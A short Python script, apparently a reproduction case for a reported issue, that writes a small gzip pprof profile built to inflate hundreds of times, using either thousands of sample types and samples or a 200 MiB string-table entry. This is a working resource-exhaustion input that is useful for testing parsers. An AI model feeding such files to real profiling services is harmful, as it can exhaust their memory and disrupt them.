#!/usr/bin/env python3
"""Writes a small gzip pprof profile that inflates hundreds of times (issue 17):
   amplified-profile.py types FILE    8000 sample types, 12000 samples of zero values
   amplified-profile.py string FILE   one 200 MiB string in the string table"""
import gzip, sys
def varint(n):
    out = b""
    while True:
        b = n & 0x7f; n >>= 7
        if n: out += bytes([b | 0x80])
        else: return out + bytes([b])
def field(num, data): return varint(num << 3 | 2) + varint(len(data)) + data
def vfield(num, v): return varint(num << 3) + varint(v)
kind, path = sys.argv[1], sys.argv[2]
strings = [b"", b"t", b"count", b"main"]
if kind == "types":
    ntypes, nsamples = 8000, 12000
    st = b"".join(field(1, vfield(1, 1) + vfield(2, 2)) for _ in range(ntypes))
    loc = field(4, vfield(1, 1) + field(4, vfield(1, 1)))
    fn = field(5, vfield(1, 1) + vfield(2, 3))
    sample = field(2, field(1, varint(1)) + field(2, b"\x00" * ntypes))
    body = st + b"".join([sample] * nsamples) + loc + fn
else:
    big = b"x" * (200 << 20)
    st = field(1, vfield(1, 1) + vfield(2, 2))
    body = st + field(2, field(1, varint(1)) + field(2, varint(1))) + field(4, vfield(1, 1) + field(4, vfield(1, 1))) + field(5, vfield(1, 1) + vfield(2, 3))
    strings.append(big)
body += b"".join(field(6, s) for s in strings)
open(path, "wb").write(gzip.compress(body, 6))
